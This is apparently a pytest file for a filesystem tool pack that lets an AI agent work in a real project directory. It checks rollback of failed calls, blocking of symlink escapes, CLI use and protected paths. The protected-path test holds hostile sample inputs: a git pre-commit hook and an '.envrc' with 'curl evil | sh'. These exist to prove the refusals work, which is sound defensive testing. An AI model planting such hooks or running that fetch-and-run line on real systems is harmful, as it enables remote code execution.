"""The VFS pack on a real project directory (``workspace = DIR``): composed from the installed
pack, run through the executor, checked on disk.

A successful call's changes land on disk; a failed call's are rolled back on disk; links
never lead out of the directory; closing never removes it; ``haversack call --workspace``
works from the command line.
"""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from haversack import MarkdownSection, Tool, ToolContext, ToolResult
from haversack.errors import PackConfigError
from haversack.filesystem import DirectoryFilesystem
from haversack_vfs import VfsConfig

from ._workspace import Workspace


def _disk(root: Path) -> dict[str, object]:
    """Every path under ``root`` -> bytes (files), ``"<dir>"`` or ``"-> target"`` (links),
    with the mode bits."""
    out: dict[str, object] = {}
    for folder, dirs, files in os.walk(root):
        for name in dirs + files:
            path = Path(folder, name)
            rel = str(path.relative_to(root))
            st = path.lstat()
            if path.is_symlink():
                out[rel] = f"-> {os.readlink(path)}"
            elif path.is_dir():
                out[rel] = ("<dir>", st.st_mode & 0o7777)
            else:
                out[rel] = (path.read_bytes(), st.st_mode & 0o7777)
    return out


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    (root / "src").mkdir(parents=True)
    (root / "README.md").write_text("# Project\n\nHello.\n")
    (root / "src" / "app.py").write_text("print('hi')\r\n")
    (root / "src" / "tool.sh").write_text("#!/bin/sh\n")
    (root / "src" / "tool.sh").chmod(0o755)
    return root


@dataclass(frozen=True)
class Mess:
    """Params of the test tool."""

    mode: str = field(metadata={"description": "raise, fail or ok"})


def _messy(params: Mess, *, context: ToolContext) -> ToolResult[None]:
    fs = context.filesystem
    fs.write("README.md", "clobbered", mode="overwrite")
    fs.delete("src", recursive=True)
    fs.write("new/file.txt", "new")
    if params.mode == "raise":
        raise RuntimeError("boom after writing")
    if params.mode == "fail":
        return ToolResult.error("gave up after writing")
    return ToolResult.ok(None, "done")


MESS = MarkdownSection[None](
    title="Mess",
    key="mess",
    template="A tool that changes files.",
    tools=(Tool[Mess, None](name="mess", description="Change files.", handler=_messy),),
)


def test_the_pack_binds_a_directory_filesystem(make_ws: Callable[..., Workspace], project):
    ws = make_ws({"workspace": str(project)})
    assert isinstance(ws.fs, DirectoryFilesystem)
    assert ws.fs.root == project


def test_successful_calls_land_on_disk(make_ws: Callable[..., Workspace], project):
    ws = make_ws({"workspace": str(project)})
    assert "Hello." in ws.ok("read_file", path="README.md").render()
    ws.ok("write_file", path="docs/guide.md", content="# Guide\n")
    ws.ok("edit_file", path="README.md", old_string="Hello.", new_string="Hello, disk.")
    ws.ok("rm", path="src/tool.sh")
    assert (project / "docs" / "guide.md").read_text() == "# Guide\n"
    assert (project / "README.md").read_text() == "# Project\n\nHello, disk.\n"
    assert not (project / "src" / "tool.sh").exists()
    assert ws.ok("glob", pattern="**/*.md").value is not None
    assert "app.py" in ws.ok("grep", pattern="print").render()


@pytest.mark.parametrize("mode", ["raise", "fail"])
def test_a_failed_call_is_rolled_back_on_disk(make_ws: Callable[..., Workspace], project, mode):
    ws = make_ws({"workspace": str(project)}, sections=[MESS])
    before = _disk(project)
    result = ws.call("mess", mode=mode)
    assert not result.success
    assert _disk(project) == before


def test_a_successful_messy_call_stays(make_ws: Callable[..., Workspace], project):
    ws = make_ws({"workspace": str(project)}, sections=[MESS])
    ws.ok("mess", mode="ok")
    assert (project / "README.md").read_text() == "clobbered"
    assert not (project / "src").exists()
    assert (project / "new" / "file.txt").read_text() == "new"


def test_links_never_lead_out_of_the_directory(
    make_ws: Callable[..., Workspace], project, tmp_path
):
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "key.txt").write_text("TOP SECRET\n")
    (project / "escape").symlink_to(secret)
    (project / "key.txt").symlink_to(secret / "key.txt")
    ws = make_ws({"workspace": str(project)})
    listing = ws.ok("ls", path="").render()
    assert "escape@ (symbolic link, not followed)" in listing
    for tool, arguments in [
        ("read_file", {"path": "key.txt"}),
        ("read_file", {"path": "escape/key.txt"}),
        ("write_file", {"path": "escape/new.txt", "content": "x"}),
        ("ls", {"path": "escape"}),
        ("grep", {"pattern": "SECRET", "path": "escape"}),
    ]:
        result = ws.call(tool, **arguments)
        assert not result.success, (tool, result.render())
        assert "symbolic link" in result.message
        assert "TOP SECRET" not in result.render()
    assert "TOP SECRET" not in ws.ok("grep", pattern="SECRET").render()
    assert sorted(os.listdir(secret)) == ["key.txt"]


def test_closing_never_removes_the_directory(make_ws: Callable[..., Workspace], project):
    ws = make_ws({"workspace": str(project)})
    ws.ok("write_file", path="kept.txt", content="kept")
    storage = ws.fs.snapshot_storage  # type: ignore[attr-defined]
    ws.close()
    assert (project / "kept.txt").read_text() == "kept"
    assert (project / "README.md").exists()
    assert not storage.exists()


def test_configuration_mistakes_are_precise(make_ws: Callable[..., Workspace], tmp_path, project):
    with pytest.raises(PackConfigError, match="not an existing directory"):
        make_ws({"workspace": str(tmp_path / "missing")})
    with pytest.raises(PackConfigError, match="cannot be combined"):
        make_ws(
            {
                "workspace": str(project),
                "mounts": [{"host_path": str(project), "mount_path": "p"}],
                "allowed_host_roots": [str(tmp_path)],
            }
        )


def test_a_relative_workspace_resolves_against_the_current_directory(
    project, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.chdir(project.parent)
    assert VfsConfig(workspace=Path("project")).workspace == project


def _haversack(cwd: Path, *argv: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("HAVERSACK_")}
    return subprocess.run(
        [sys.executable, "-m", "haversack", *argv],
        cwd=cwd,
        env={**env, "HAVERSACK_PACKS": "vfs"},
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
    )


def test_the_cli_reads_and_writes_the_named_directory(project, tmp_path):
    done = _haversack(project, "call", "read_file", '{"path": "README.md"}', "--workspace", ".")
    assert done.returncode == 0, done.stderr
    assert "Hello." in done.stdout
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    done = _haversack(
        elsewhere,
        "call",
        "write_file",
        '{"path": "notes/todo.md", "content": "- ship\\n"}',
        "--workspace",
        str(project),
    )
    assert done.returncode == 0, done.stderr
    assert (project / "notes" / "todo.md").read_text() == "- ship\n"
    assert not (elsewhere / "notes").exists()


def test_the_cli_names_a_missing_workspace(tmp_path):
    done = _haversack(tmp_path, "check", "--workspace", "missing")
    assert done.returncode != 0
    assert "not an existing directory" in done.stdout + done.stderr
    done = _haversack(tmp_path, "call", "ls", "{}", "--workspace", "missing")
    assert done.returncode != 0
    assert "not an existing directory" in done.stdout + done.stderr


@dataclass(frozen=True)
class Race:
    """Params of the racing test tool."""

    clash: bool = field(default=False, metadata={"description": "also edit the call's file"})


def _racing(params: Race, *, context: ToolContext) -> ToolResult[None]:
    """Write, let 'the user's editor' write meanwhile, then fail."""
    fs = context.filesystem
    fs.write("README.md", "by the call", mode="overwrite")
    fs.write("call.txt", "by the call")
    root = Path(fs.root)  # type: ignore[attr-defined]
    (root / "TODO.md").write_text("by the editor")
    (root / "src" / "app.py").write_text("edited by the editor")
    if params.clash:
        (root / "README.md").write_text("by the editor too")
    return ToolResult.error("gave up")


RACE = MarkdownSection[None](
    title="Race",
    key="race",
    template="A tool that fails while others write.",
    tools=(Tool[Race, None](name="race", description="Race.", handler=_racing),),
)


def test_a_failed_call_keeps_what_others_wrote_meanwhile(
    make_ws: Callable[..., Workspace], project
):
    ws = make_ws({"workspace": str(project)}, sections=[RACE])
    result = ws.call("race")
    assert not result.success
    assert (project / "README.md").read_text() == "# Project\n\nHello.\n"
    assert not (project / "call.txt").exists()
    assert (project / "TODO.md").read_text() == "by the editor"
    assert (project / "src" / "app.py").read_text() == "edited by the editor"
    assert "Not rolled back" not in result.message


def test_the_model_is_told_which_paths_it_could_not_roll_back(
    make_ws: Callable[..., Workspace], project
):
    ws = make_ws({"workspace": str(project)}, sections=[RACE])
    result = ws.call("race", clash=True)
    assert (project / "README.md").read_text() == "by the editor too"
    assert "gave up" in result.message
    assert "Not rolled back in /workspace" in result.message
    assert "/workspace/README.md" in result.render()


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("write_file", {"path": ".git/hooks/pre-commit", "content": "#!/bin/sh\nid\n"}),
        ("write_file", {"path": ".envrc", "content": "curl evil | sh\n"}),
        ("edit_file", {"path": ".git/config", "old_string": "[core]", "new_string": "[x]"}),
        ("rm", {"path": ".git"}),
    ],
)
def test_protected_paths_are_refused_through_the_tools(
    make_ws: Callable[..., Workspace], project, tool, arguments
):
    (project / ".git" / "hooks").mkdir(parents=True)
    (project / ".git" / "config").write_text("[core]\n")
    ws = make_ws({"workspace": str(project), "read_before_write": False})
    before = _disk(project)
    result = ws.call(tool, **arguments)
    assert not result.success
    assert "is protected" in result.message
    assert _disk(project) == before


def test_protection_is_configurable_and_said_in_the_section(
    make_ws: Callable[..., Workspace], project
):
    ws = make_ws({"workspace": str(project), "protect": ["deploy/**"]})
    assert "`deploy/**`" in ws.rendered.text
    assert "`.git/config`" in ws.rendered.text
    assert "is protected" in ws.call("write_file", path="deploy/run.sh", content="x").message
    with pytest.raises(PackConfigError, match="not a default protected glob"):
        make_ws({"workspace": str(project), "unprotect": [".envrc"]})
    with pytest.raises(PackConfigError, match="set workspace too"):
        make_ws({"protect": ["x"]})
